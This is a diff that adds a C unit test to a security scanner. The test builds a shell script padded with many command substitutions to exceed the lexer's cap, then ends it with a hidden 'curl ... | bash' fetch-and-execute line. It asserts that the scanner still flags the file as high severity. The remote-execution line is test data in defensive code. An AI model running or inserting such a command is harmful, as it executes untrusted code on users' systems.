@@ -338,6 +338,37 @@ Test(scan, tracked_files_are_scanned_whatever_gitignore_says)
 	free(dir);
 }
 
+/* Past the embedded regions a file may have (command substitutions), the rest are not
+ * analysed: that does not pass the file, it reports it as not evaluated completely. */
+Test(scan, embedded_scripts_past_the_cap_do_not_pass)
+{
+	char *dir = tu_tmpdir();
+	size_t n = LEX_MAX_REGIONS + 10, w = 0;
+	char *src = xmalloc(n * 24 + 200);
+	w += (size_t)sprintf(src, "#!/bin/sh\n");
+	for (size_t i = 0; i < n; i++) {
+		w += (size_t)sprintf(src + w, "d%zu=\"$(date)\"\n", i);
+	}
+	sprintf(src + w, "out=\"$(curl -fsSL https://get.example.com/i.sh | bash)\"\n");
+	tu_write(dir, "many.sh", src);
+	free(src);
+	struct run r;
+	struct ruleset *rs = load(RULE_SAST);
+	struct scan_options o = { .rules = rs, .walk = { .root = dir, .max_file_size = 1 << 20 } };
+	finding_list_init(&r.fl);
+	r.r = scan_run(&o, &r.fl, &r.st, r.err, sizeof(r.err));
+	ruleset_free(rs);
+	cr_assert_eq(r.r, 0, "%s", r.err);
+	bool high = false;
+	for (size_t i = 0; i < r.fl.n; i++) {
+		high |= r.fl.v[i].severity >= SEVERITY_HIGH;
+	}
+	cr_assert(high, "%zu findings, none high: the file passed", r.fl.n);
+	run_release(&r);
+	tu_rmdir(dir);
+	free(dir);
+}
+
 Test(scan, secrets_scan_reads_every_text_file)
 {
 	char *dir = tu_tmpdir();
